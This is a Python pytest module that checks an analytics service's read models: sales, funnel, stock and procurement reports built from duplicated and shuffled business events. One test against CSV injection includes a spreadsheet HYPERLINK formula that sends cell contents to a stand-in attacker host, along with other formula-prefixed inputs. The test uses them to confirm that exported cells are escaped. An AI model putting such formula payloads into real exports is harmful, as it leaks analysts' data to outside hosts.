"""The read models in-process on a throw-away database: duplicate and
out-of-order delivery of the same events gives exactly the same reports."""

from __future__ import annotations

import csv
import io
import random
import secrets
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from typing import Any

import bson
import pytest
from beanie import init_beanie
from pymongo import AsyncMongoClient, MongoClient

from apps.analytics.levels import fill_current_levels
from apps.analytics.models import (
    READ_MODELS,
    CurrentLevel,
    OrderFact,
    SalesDay,
    SalesTotals,
    SalesWholeDay,
)
from apps.analytics.projections import HANDLERS
from apps.analytics.queries import (
    FunnelQuery,
    ProcurementQuery,
    PurchaseHistoryQuery,
    Ranking,
    ReportQuery,
    SalesGroup,
    SalesQuery,
    StockQuery,
    TopProductsQuery,
)
from apps.analytics.reports import (
    REPORTS,
    Report,
    funnel_report,
    sales_report,
    top_products_report,
)
from apps.analytics.sales_days import bucket_of, deferred_rollups, fill_sales_days, recompute
from apps.kit.csv_cells import csv_text
from apps.kit.events import Event
from tests.support.queries import profiled

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
async def read_models(mongo_url: str, database_prefix: str) -> AsyncIterator[None]:
    client: AsyncMongoClient[dict[str, Any]] = AsyncMongoClient(mongo_url, tz_aware=True)
    name = f"{database_prefix}analytics_inproc_{secrets.token_hex(3)}"
    await init_beanie(database=client[name], document_models=READ_MODELS)
    yield
    await client.drop_database(name)
    await client.close()


class Feed:
    def __init__(self) -> None:
        self.events: list[tuple[str, Event]] = []

    def add(self, source: str, event_type: str, at: datetime, data: dict[str, Any]) -> None:
        seq = len(self.events) + 1
        self.events.append(
            (
                source,
                Event(
                    id=f"evt_{seq:04d}",
                    seq=seq,
                    type=event_type,
                    source=source,
                    occurred_at=at,
                    data=data,
                ),
            )
        )


def _line(sku: str, category: str, quantity: int, price: int) -> dict[str, Any]:
    subtotal = quantity * price
    return {
        "sku": sku,
        "name": sku.title(),
        "category": category,
        "quantity": quantity,
        "unit_price_paise": price,
        "gst_rate_bps": 1800,
        "line_subtotal_paise": subtotal,
        "line_tax_paise": subtotal * 18 // 100,
    }


def _order(
    feed: Feed,
    number: int,
    distributor: str,
    region: str,
    lines: list[Any],
    stages: list[str],
    placed: datetime,
) -> None:
    subtotal = sum(line["line_subtotal_paise"] for line in lines)
    tax = sum(line["line_tax_paise"] for line in lines)
    status_of = {"placed": "PENDING"}
    for step, stage in enumerate(stages):
        at = placed + timedelta(hours=step)
        feed.add(
            "order",
            f"order.{stage}",
            at,
            {
                "order_id": f"ord_{number}",
                "number": f"SO-2026-{number:06d}",
                "status": status_of.get(stage, stage.upper()),
                "distributor_id": distributor,
                "distributor_name": distributor.title(),
                "region": region,
                "lines": lines,
                "subtotal_paise": subtotal,
                "tax_paise": tax,
                "total_paise": subtotal + tax,
                "placed_at": placed.isoformat(),
                "at": at.isoformat(),
            },
        )


def _levels(
    feed: Feed,
    event_type: str,
    at: datetime,
    levels: list[tuple[str, str, int, int, int]],
    **data: Any,
) -> None:
    feed.add(
        "inventory",
        event_type,
        at,
        {
            **data,
            "levels": [
                {
                    "sku": sku,
                    "warehouse_code": wh,
                    "on_hand": on_hand,
                    "reserved": reserved,
                    "version": v,
                }
                for sku, wh, on_hand, reserved, v in levels
            ],
        },
    )


def _po(
    feed: Feed,
    kind: str,
    at: datetime,
    po: str,
    supplier: str,
    received: list[int],
    submitted: datetime,
    **extra: Any,
) -> None:
    lines = [
        {
            "item": "FOAM-A",
            "quantity": 10,
            "unit_cost_paise": 1_000,
            "received_quantity": received[0],
        },
        {
            "item": "FOAM-B",
            "quantity": 5,
            "unit_cost_paise": 2_000,
            "received_quantity": received[1],
        },
    ]
    feed.add(
        "procurement",
        f"purchase_order.{kind}",
        at,
        {
            "po_id": po,
            "number": po.upper(),
            "supplier_id": supplier,
            "supplier_name": supplier.title(),
            "promised_lead_time_days": 7,
            "lines": lines,
            "subtotal_paise": 20_000,
            "tax_paise": 3_600,
            "total_paise": 23_600,
            "submitted_at": submitted.isoformat(),
            "at": at.isoformat(),
            **extra,
        },
    )


def business_events() -> Feed:
    feed = Feed()
    mattress, pillow = ("MAT-Q", "mattress", 2, 1_500_000), ("PIL-S", "pillow", 4, 50_000)
    _order(
        feed,
        1,
        "dst_a",
        "south",
        [_line(*mattress), _line(*pillow)],
        ["placed", "confirmed", "shipped", "delivered"],
        T0,
    )
    _order(
        feed,
        2,
        "dst_b",
        "west",
        [_line("MAT-Q", "mattress", 1, 1_500_000)],
        ["placed", "confirmed", "cancelled"],
        T0 + timedelta(days=1),
    )
    _order(
        feed,
        3,
        "dst_a",
        "south",
        [_line("PIL-S", "pillow", 10, 50_000)],
        ["placed", "rejected"],
        T0 + timedelta(days=8),
    )
    _order(
        feed,
        4,
        "dst_b",
        "west",
        [_line("PIL-S", "pillow", 3, 50_000)],
        ["placed", "confirmed"],
        T0 + timedelta(days=31),
    )
    feed.add(
        "inventory",
        "product.created",
        T0,
        {
            "sku": "MAT-Q",
            "name": "Queen",
            "category": "mattress",
            "unit_price_paise": 1_500_000,
            "reorder_point": 5,
            "reorder_quantity": 20,
        },
    )
    feed.add(
        "inventory",
        "product.updated",
        T0 + timedelta(days=2),
        {
            "sku": "MAT-Q",
            "name": "Queen Memory Foam",
            "category": "mattress",
            "unit_price_paise": 1_600_000,
            "reorder_point": 6,
            "reorder_quantity": 20,
        },
    )
    _levels(
        feed,
        "stock.received",
        T0,
        [("MAT-Q", "WH-1", 10, 0, 1)],
        receipt_id="grn_1",
        reference="PO-1",
        warehouse_code="WH-1",
        lines=[{"sku": "MAT-Q", "quantity": 10, "unit_cost_paise": 900_000}],
    )
    _levels(feed, "reservation.committed", T0 + timedelta(hours=2), [("MAT-Q", "WH-1", 8, 0, 2)])
    _levels(
        feed,
        "stock.received",
        T0 + timedelta(days=3),
        [("MAT-Q", "WH-1", 13, 0, 3)],
        receipt_id="grn_2",
        reference="PO-2",
        warehouse_code="WH-1",
        lines=[{"sku": "MAT-Q", "quantity": 5, "unit_cost_paise": 950_000}],
    )
    _levels(
        feed,
        "stock.adjusted",
        T0 + timedelta(days=4),
        [("MAT-Q", "WH-1", 4, 0, 4), ("MAT-Q", "WH-2", 30, 2, 1)],
    )
    feed.add(
        "inventory",
        "stock.low",
        T0 + timedelta(days=4),
        {
            "sku": "MAT-Q",
            "warehouse_code": "WH-1",
            "available": 4,
            "reorder_point": 6,
            "reorder_quantity": 20,
        },
    )
    sub = T0
    _po(feed, "submitted", sub, "po_1", "sup_a", [0, 0], sub)
    _po(
        feed,
        "received",
        sub + timedelta(days=3),
        "po_1",
        "sup_a",
        [10, 0],
        sub,
        receipt_id="grn_x1",
        warehouse_code="WH-1",
        received_lines=[{"item": "FOAM-A", "quantity": 10, "unit_cost_paise": 1_000}],
    )
    _po(
        feed,
        "received",
        sub + timedelta(days=9),
        "po_1",
        "sup_a",
        [10, 5],
        sub,
        receipt_id="grn_x2",
        warehouse_code="WH-1",
        received_lines=[{"item": "FOAM-B", "quantity": 5, "unit_cost_paise": 2_000}],
    )
    _po(
        feed, "submitted", sub + timedelta(days=1), "po_2", "sup_a", [0, 0], sub + timedelta(days=1)
    )
    _po(
        feed, "cancelled", sub + timedelta(days=2), "po_2", "sup_a", [0, 0], sub + timedelta(days=1)
    )
    _po(
        feed, "submitted", sub + timedelta(days=5), "po_3", "sup_b", [0, 0], sub + timedelta(days=5)
    )
    return feed


QUERIES: list[tuple[str, ReportQuery]] = [
    *(("sales", SalesQuery(group_by=group)) for group in SalesGroup),
    ("sales", SalesQuery(from_=date(2026, 3, 1), to=date(2026, 3, 31), category="pillow")),
    ("top-products", TopProductsQuery(by=Ranking.REVENUE)),
    ("order-funnel", FunnelQuery()),
    ("order-funnel", FunnelQuery(region="west")),
    ("stock", StockQuery()),
    ("stock", StockQuery(as_of=date(2026, 3, 4))),
    ("stock", StockQuery(sku="MAT-Q", as_of=date(2026, 3, 4))),
    ("stock", StockQuery(warehouse_code="WH-2")),
    ("low-stock", StockQuery()),
    ("procurement-spend", ProcurementQuery()),
    ("supplier-lead-time", ProcurementQuery()),
    ("purchase-history", PurchaseHistoryQuery(distributor_id="dst_a")),
]


async def _deliver(events: list[tuple[str, Event]]) -> list[Report]:
    for model in READ_MODELS:
        await model.get_pymongo_collection().delete_many({})
    for source, event in events:
        await HANDLERS[source](event, None)
    return await _reports()


async def _reports() -> list[Report]:
    return [await REPORTS[name][1](query) for name, query in QUERIES]


async def test_reports_from_known_events(read_models: None) -> None:
    reports = {
        (r.report, str(q)): r
        for r, (_, q) in zip(await _deliver(business_events().events), QUERIES, strict=True)
    }
    by_month = reports[("sales", str(SalesQuery(group_by=SalesGroup.MONTH)))].rows
    # March: order 1 only (2 cancelled, 3 rejected); April: order 4.
    assert [(r["group"], r["orders"], r["units"], r["net_revenue_paise"]) for r in by_month] == [
        ("2026-03", 1, 6, 2 * 1_500_000 + 4 * 50_000),
        ("2026-04", 1, 3, 150_000),
    ]
    funnel = {
        r["stage"]: (r["orders"], r["rate"])
        for r in reports[("order-funnel", str(FunnelQuery()))].rows
    }
    assert funnel == {
        "placed": (4, 1.0),
        "confirmed": (3, 0.75),
        "rejected": (1, 0.25),
        "cancelled": (1, 0.25),
        "shipped": (1, 0.25),
        "delivered": (1, 0.25),
    }
    stock_now = reports[("stock", str(StockQuery()))].rows
    assert stock_now == [
        {
            "warehouse_code": "WH-1",
            "skus": 1,
            "on_hand": 4,
            "reserved": 0,
            "available": 4,
            "stock_value_paise": 4 * 950_000,
            "retail_value_paise": 4 * 1_600_000,
        },
        {
            "warehouse_code": "WH-2",
            "skus": 1,
            "on_hand": 30,
            "reserved": 2,
            "available": 28,
            "stock_value_paise": 30 * 950_000,
            "retail_value_paise": 30 * 1_600_000,
        },
    ]
    earlier = reports[("stock", str(StockQuery(as_of=date(2026, 3, 4))))].rows
    # Then: version 2 of the level, at the cost of the first receipt (the second came later).
    assert [(r["warehouse_code"], r["on_hand"], r["stock_value_paise"]) for r in earlier] == [
        ("WH-1", 8, 8 * 900_000)
    ]
    assert reports[("stock", str(StockQuery(sku="MAT-Q", as_of=date(2026, 3, 4))))].rows == earlier
    assert reports[("stock", str(StockQuery(warehouse_code="WH-2")))].rows == stock_now[1:]
    low = reports[("low-stock", str(StockQuery()))].rows
    assert [(r["warehouse_code"], r["available"], r["reorder_point"]) for r in low] == [
        ("WH-1", 4, 6)
    ]
    spend = reports[("procurement-spend", str(ProcurementQuery()))].rows
    assert [
        (
            r["supplier_id"],
            r["purchase_orders"],
            r["cancelled"],
            r["ordered_paise"],
            r["received_value_paise"],
        )
        for r in spend
    ] == [("sup_a", 1, 1, 23_600, 20_000), ("sup_b", 1, 0, 23_600, 0)]
    lead = reports[("supplier-lead-time", str(ProcurementQuery()))].rows
    assert [
        (r["supplier_id"], r["completed"], r["open"], r["average_actual_days"], r["late"])
        for r in lead
    ] == [("sup_a", 1, 0, 9.0, 1), ("sup_b", 0, 1, None, 0)]
    history = reports[("purchase-history", str(PurchaseHistoryQuery(distributor_id="dst_a")))].rows
    assert [(r["number"], r["status"]) for r in history] == [  # newest first
        ("SO-2026-000003", "REJECTED"),
        ("SO-2026-000001", "DELIVERED"),
    ]


@pytest.mark.parametrize("seed", [1, 2, 3])
async def test_duplicates_and_any_order_give_the_same_reports(read_models: None, seed: int) -> None:
    events = business_events().events
    expected = [r.model_dump() for r in await _deliver(events)]
    rng = random.Random(seed)
    shuffled = events + rng.sample(events, len(events) // 2)
    rng.shuffle(shuffled)
    assert [r.model_dump() for r in await _deliver(shuffled)] == expected
    assert [r.model_dump() for r in await _deliver(list(reversed(events)))] == expected


async def test_a_database_without_current_levels_gets_them_from_the_versions(
    read_models: None,
) -> None:
    """The current levels of a database from before they were kept are filled at start,
    and the reports answer as before; a database that has them is left alone."""
    expected = [r.model_dump() for r in await _deliver(business_events().events)]
    current = CurrentLevel.get_pymongo_collection()
    await current.delete_many({})
    await fill_current_levels()
    assert [r.model_dump() for r in await _reports()] == expected
    await current.delete_one({"_id": "MAT-Q|WH-2"})
    await fill_current_levels()
    assert await current.count_documents({}) == 1


async def test_a_replay_recomputes_each_day_once_at_its_end(
    read_models: None, mongo_url: str
) -> None:
    events = random_orders(random.Random(9), 80).events
    await _deliver(events)
    expected = [r.model_dump() for r in await _reports()]
    days = {bucket_of(fact) async for fact in OrderFact.find({})}
    database = OrderFact.get_pymongo_collection().database.name
    sync: MongoClient[dict[str, Any]]
    with MongoClient(mongo_url) as sync, profiled([sync[database]]):
        async with deferred_rollups():
            await _deliver(events)
            assert await SalesDay.find_one() is None  # nothing until the end
        day_reads = sync[database]["system.profile"].count_documents(
            {"command.find": "order_facts", "command.filter.placed_at": {"$exists": True}}
        )
    assert day_reads == len(days)
    assert [r.model_dump() for r in await _reports()] == expected


async def test_a_database_without_sales_rollups_gets_them_from_the_order_facts(
    read_models: None,
) -> None:
    expected = [r.model_dump() for r in await _deliver(business_events().events)]
    await SalesDay.get_pymongo_collection().delete_many({})
    await SalesWholeDay.get_pymongo_collection().delete_many({})
    await fill_sales_days()
    assert [r.model_dump() for r in await _reports()] == expected


async def test_a_database_without_whole_days_gets_them_from_the_rollups(
    read_models: None,
) -> None:
    expected = [r.model_dump() for r in await _deliver(business_events().events)]
    kept = await _stored_rollups()
    await SalesWholeDay.get_pymongo_collection().delete_many({})
    await fill_sales_days()
    assert await _stored_rollups() == kept
    assert [r.model_dump() for r in await _reports()] == expected


async def test_csv_cells_cannot_become_spreadsheet_formulas(read_models: None) -> None:
    """OWASP CSV injection: text a distributor or a clerk typed reaches an analyst's
    spreadsheet as text, never as a live formula; numbers stay numbers."""
    feed = Feed()
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
    _order(
        feed,
        1,
        evil,
        "@SUM(1+1)",
        [_line("MAT-Q", "mattress", 1, 1_500_000)],
        ["placed", "confirmed"],
        T0,
    )
    for model in READ_MODELS:
        await model.get_pymongo_collection().delete_many({})
    for source, event in feed.events:
        await HANDLERS[source](event, None)
    sales = REPORTS["sales"][1]
    by_distributor = await sales(SalesQuery(group_by=SalesGroup.DISTRIBUTOR))
    by_region = await sales(SalesQuery(group_by=SalesGroup.REGION))
    rows = list(csv.DictReader(io.StringIO(by_distributor.csv())))
    assert [(r["group"], r["label"]) for r in rows] == [("'" + evil, "'" + evil.title())]
    assert rows[0]["net_revenue_paise"] == "1500000"
    (region,) = csv.DictReader(io.StringIO(by_region.csv()))
    assert region["group"] == "'@SUM(1+1)"

    table = csv_text(
        ["text", "amount"],
        [
            {"text": t, "amount": -1_500}
            for t in ["+1", "-1", "\tx", "\rx", "=1", "@x", "plain", "it's"]
        ],
    )
    parsed = list(csv.reader(io.StringIO(table, newline="")))[1:]
    assert [row[0] for row in parsed] == [
        "'+1",
        "'-1",
        "'\tx",
        "'\rx",
        "'=1",
        "'@x",
        "plain",
        "it's",
    ]
    assert {row[1] for row in parsed} == {"-1500"}  # a negative number is not text


def _sales_from_facts(
    facts: list[OrderFact], group: SalesGroup, category: str | None, sku: str | None
) -> list[tuple[str, str, int, int, int, int]]:
    """The sales report computed the plain way, order by order (the reference the
    rollups must match): (group, label, orders, units, net, tax) per group."""
    rows: dict[str, list[Any]] = {}
    orders: dict[str, set[str]] = {}
    for fact in sorted(facts, key=lambda fact: fact.id):
        if "confirmed" not in fact.stages or "cancelled" in fact.stages:
            continue
        for line in fact.lines:
            if (category and line.get("category") != category) or (sku and line["sku"] != sku):
                continue
            placed = fact.placed_at
            key, label = {
                SalesGroup.DAY: (placed.date().isoformat(),) * 2,
                SalesGroup.WEEK: ("{}-W{:02d}".format(*placed.isocalendar()[:2]),) * 2,
                SalesGroup.MONTH: (f"{placed.year}-{placed.month:02d}",) * 2,
                SalesGroup.PRODUCT: (line["sku"], line.get("name") or line["sku"]),
                SalesGroup.CATEGORY: (line.get("category") or "uncategorised",) * 2,
                SalesGroup.DISTRIBUTOR: (fact.distributor_id, fact.distributor_name),
                SalesGroup.REGION: (fact.region,) * 2,
            }[group]
            row = rows.setdefault(key, [key, label, 0, 0, 0, 0])
            orders.setdefault(key, set()).add(fact.id)
            row[3] += line["quantity"]
            row[4] += line["line_subtotal_paise"]
            row[5] += line["line_tax_paise"]
    return [(*rows[key][:2], len(orders[key]), *rows[key][3:]) for key in sorted(rows)]


def _sales_row(row: dict[str, Any]) -> tuple[Any, ...]:
    return tuple(
        row[c] for c in ("group", "label", "orders", "units", "net_revenue_paise", "tax_paise")
    )


def random_orders(rng: random.Random, count: int) -> Feed:
    """Orders of three distributors (one renamed and one moved region midway) over
    six weeks across a month's end, lines of SKUs whose category changes, every path
    through the stages."""
    feed = Feed()
    paths = [
        ["placed"],
        ["placed", "confirmed"],
        ["placed", "rejected"],
        ["placed", "confirmed", "cancelled"],
        ["placed", "confirmed", "shipped"],
        ["placed", "confirmed", "shipped", "delivered"],
    ]
    products = [("MAT-Q", "mattress"), ("MAT-K", "mattress"), ("PIL-S", "pillow"), ("FOM-1", "")]
    for number in range(1, count + 1):
        distributor = rng.choice(["dst_a", "dst_b", "dst_c"])
        region = "north" if distributor != "dst_c" or number < count // 2 else "east"
        chosen = rng.sample(products, rng.randint(1, 3))
        lines = [
            _line(
                sku,
                "pillow" if sku == "MAT-K" and number > count // 3 else category,
                rng.randint(1, 4),
                10_000 * rng.randint(1, 9),
            )
            for sku, category in chosen
        ]
        placed = datetime(2026, 4, 20, tzinfo=UTC) + timedelta(hours=rng.randint(0, 24 * 42))
        _order(feed, number, distributor, region, lines, rng.choice(paths), placed)
    return feed


@pytest.mark.parametrize("seed", [7, 8])
async def test_sales_rollups_answer_as_the_orders_do(read_models: None, seed: int) -> None:
    rng = random.Random(seed)
    events = random_orders(rng, 120).events
    shuffled = events + rng.sample(events, len(events) // 3)
    rng.shuffle(shuffled)
    await _deliver(shuffled)
    facts = await OrderFact.find({}).to_list()
    assert len(facts) == 120
    for group in SalesGroup:
        for category, sku in [
            (None, None),
            ("mattress", None),
            ("pillow", None),
            (None, "MAT-K"),
            ("pillow", "MAT-K"),
            ("", None),
        ]:
            query = SalesQuery(group_by=group, category=category or None, sku=sku)
            rows = (await sales_report(query)).rows
            assert [_sales_row(row) for row in rows] == _sales_from_facts(
                facts, group, category or None, sku
            ), (group, category, sku)
    # Filters on the days, a distributor, a region.
    window = SalesQuery(
        group_by=SalesGroup.DISTRIBUTOR, from_=date(2026, 5, 1), to=date(2026, 5, 10)
    )
    kept = [f for f in facts if date(2026, 5, 1) <= f.placed_at.date() <= date(2026, 5, 10)]
    assert [(r["group"], r["orders"], r["units"]) for r in (await sales_report(window)).rows] == [
        (g, o, u)
        for g, _, o, u, _, _ in _sales_from_facts(kept, SalesGroup.DISTRIBUTOR, None, None)
    ]
    east = SalesQuery(group_by=SalesGroup.PRODUCT, region="east", distributor_id="dst_c")
    moved = [f for f in facts if f.region == "east" and f.distributor_id == "dst_c"]
    assert [(r["group"], r["orders"]) for r in (await sales_report(east)).rows] == [
        (g, o) for g, _, o, _, _, _ in _sales_from_facts(moved, SalesGroup.PRODUCT, None, None)
    ]
    funnel = {
        r["stage"]: r["orders"]
        for r in (await funnel_report(FunnelQuery(distributor_id="dst_a"))).rows
    }
    own = [f for f in facts if f.distributor_id == "dst_a"]
    assert funnel == {
        stage: len(own) if stage == "placed" else sum(stage in f.stages for f in own)
        for stage in ("placed", "confirmed", "rejected", "cancelled", "shipped", "delivered")
    }


async def _stored_rollups() -> dict[str, bytes]:
    """Every rollup, the distributors' and the whole days', by collection and `_id`."""
    stored: dict[str, bytes] = {}
    for model in (SalesDay, SalesWholeDay):
        rollups = model.get_pymongo_collection()
        async for document in rollups.find({}):
            stored[f"{rollups.name}/{document['_id']}"] = bson.encode(document)
    return stored


@pytest.mark.parametrize("seed", [4, 5, 6])
async def test_rollups_kept_by_changes_are_the_rollups_recomputed(
    read_models: None, seed: int
) -> None:
    """Byte for byte, after duplicates, late events and a distributor renamed and moved
    midway: what each event's change leaves is what the day's facts make."""
    rng = random.Random(seed)
    events = random_orders(rng, 150).events
    shuffled = events + rng.sample(events, len(events) // 3)
    rng.shuffle(shuffled)
    await _deliver(shuffled)
    kept = await _stored_rollups()
    assert any(key.startswith("sales_whole_days/") for key in kept)
    await SalesDay.get_pymongo_collection().delete_many({})
    await SalesWholeDay.get_pymongo_collection().delete_many({})
    await recompute({bucket_of(fact) async for fact in OrderFact.find({})}, None)
    assert kept == await _stored_rollups()


async def test_an_order_event_reads_none_of_its_days_other_orders(
    read_models: None, mongo_url: str
) -> None:
    """The cost of an event does not grow with the orders of its day."""
    feed = Feed()
    placed = datetime(2026, 5, 4, 9, tzinfo=UTC)
    for number in range(1, 41):
        _order(
            feed,
            number,
            "dst_a",
            "north",
            [_line("MAT-Q", "mattress", 1, 1_500_000)],
            ["placed"],
            placed,
        )
    earlier = len(feed.events)
    _order(
        feed,
        41,
        "dst_a",
        "north",
        [_line("MAT-Q", "mattress", 2, 1_500_000)],
        ["placed", "confirmed", "cancelled"],
        placed,
    )
    await _deliver(feed.events[:earlier])
    database = OrderFact.get_pymongo_collection().database.name
    sync: MongoClient[dict[str, Any]]
    with MongoClient(mongo_url) as sync, profiled([sync[database]]):
        for source, event in feed.events[earlier:]:
            await HANDLERS[source](event, None)
        day_reads = sync[database]["system.profile"].count_documents(
            {"command.find": "order_facts", "command.filter.placed_at": {"$exists": True}}
        )
    assert day_reads == 0
    rollup = await SalesDay.find_one()
    assert rollup is not None
    assert (rollup.stages, rollup.orders) == ({"placed": 41, "cancelled": 1, "confirmed": 1}, 0)


async def test_the_funnel_reads_the_stages_of_the_rollups_not_their_lines(
    read_models: None, mongo_url: str
) -> None:
    """The funnel's cost follows the rollups it sums, not the SKUs sold on their days."""
    await _deliver(random_orders(random.Random(9), 40).events)
    expected = {day.id: day.stages for day in await SalesDay.find({}).to_list()}
    database = SalesDay.get_pymongo_collection().database.name
    sync: MongoClient[dict[str, Any]]
    with MongoClient(mongo_url) as sync, profiled([sync[database]]):
        rows = (await funnel_report(FunnelQuery(region="north"))).rows
        reads: list[dict[str, Any]] = list(
            sync[database]["system.profile"].find({"command.find": "sales_days"})
        )
    north = [stages for key, stages in expected.items() if key.endswith("|north")]
    assert rows[0]["orders"] == sum(stages.get("placed", 0) for stages in north)
    assert [read["command"].get("projection") for read in reads] == [{"stages": 1}]
    with MongoClient(mongo_url) as sync, profiled([sync[database]]):
        rows = (await funnel_report(FunnelQuery())).rows
        reads = list(sync[database]["system.profile"].find({"command.find": "sales_whole_days"}))
    placed = sum(stages.get("placed", 0) for stages in expected.values())
    assert rows[0] == {"stage": "placed", "orders": placed, "rate": 1.0 if placed else 0.0}
    assert [read["command"].get("projection") for read in reads] == [{"stages": 1}]


async def test_the_sales_report_of_whole_days_reads_their_sums_not_their_lines(
    read_models: None, mongo_url: str
) -> None:
    """Grouped by period, distributor or region without a category or SKU, its cost
    follows the rollups it sums, not the SKUs sold on their days."""
    await _deliver(random_orders(random.Random(10), 60).events)
    facts = await OrderFact.find({}).to_list()
    database = SalesDay.get_pymongo_collection().database.name
    sync: MongoClient[dict[str, Any]]
    by_group = {SalesGroup.WEEK: "sales_whole_days", SalesGroup.DISTRIBUTOR: "sales_days"}
    for group, rollups in by_group.items():
        with MongoClient(mongo_url) as sync, profiled([sync[database]]):
            rows = (await sales_report(SalesQuery(group_by=group))).rows
            reads: list[dict[str, Any]] = list(
                sync[database]["system.profile"].find({"command.find": rollups})
            )
        assert [_sales_row(row) for row in rows] == _sales_from_facts(facts, group, None, None)
        assert len(reads) == 1
        assert "lines" not in reads[0]["command"]["projection"]
        assert reads[0]["command"]["projection"]["totals"] == 1


async def test_a_rollup_stored_before_its_totals_were_kept_still_counts(
    read_models: None,
) -> None:
    """Its lines are summed when the report reads it, and its next change stores its
    totals."""
    events = random_orders(random.Random(11), 40).events
    await _deliver(events[:-1])
    rollups = SalesDay.get_pymongo_collection()
    await rollups.update_many({}, {"$unset": {"totals": ""}})
    facts = await OrderFact.find({}).to_list()
    rows = (await sales_report(SalesQuery(group_by=SalesGroup.MONTH))).rows
    assert [_sales_row(row) for row in rows] == _sales_from_facts(
        facts, SalesGroup.MONTH, None, None
    )
    source, last = events[-1]
    await HANDLERS[source](last, None)
    summed = await SalesDay.find({"totals": {"$ne": None}}).to_list()
    assert len(summed) == 1  # the day of the last event's order
    assert summed[0].totals == SalesTotals.of(summed[0].lines)
    facts = await OrderFact.find({}).to_list()
    rows = (await sales_report(SalesQuery(group_by=SalesGroup.REGION))).rows
    assert [_sales_row(row) for row in rows] == _sales_from_facts(
        facts, SalesGroup.REGION, None, None
    )


async def test_reports_over_the_whole_business_read_one_rollup_a_day(
    read_models: None, mongo_url: str
) -> None:
    """Without a distributor or region (and not by distributor or region), the sales,
    top-products and funnel reports read the whole days: their cost follows the days,
    not the distributors who bought on them."""
    await _deliver(random_orders(random.Random(12), 90).events)
    facts = await OrderFact.find({}).to_list()
    days = {fact.placed_at.date() for fact in facts}
    assert await SalesDay.count() > len(days)  # several distributors a day
    assert await SalesWholeDay.count() == len(days)
    database = SalesDay.get_pymongo_collection().database.name
    sync: MongoClient[dict[str, Any]]
    with MongoClient(mongo_url) as sync, profiled([sync[database]]):
        top = (await top_products_report(TopProductsQuery(limit=100))).rows
        by_day = (await sales_report(SalesQuery(group_by=SalesGroup.DAY))).rows
        by_category = (await sales_report(SalesQuery(group_by=SalesGroup.CATEGORY))).rows
        funnel = (await funnel_report(FunnelQuery())).rows
        reads: list[dict[str, Any]] = list(sync[database]["system.profile"].find({"op": "query"}))
    assert [read["command"]["find"] for read in reads] == ["sales_whole_days"] * 4
    by_product = _sales_from_facts(facts, SalesGroup.PRODUCT, None, None)
    ranked = sorted(by_product, key=lambda row: (-row[3], row[0]))  # by units, the default
    assert [_sales_row({k: v for k, v in row.items() if k != "rank"}) for row in top] == ranked
    assert [_sales_row(row) for row in by_day] == _sales_from_facts(
        facts, SalesGroup.DAY, None, None
    )
    assert [_sales_row(row) for row in by_category] == _sales_from_facts(
        facts, SalesGroup.CATEGORY, None, None
    )
    assert funnel[0]["orders"] == len(facts)
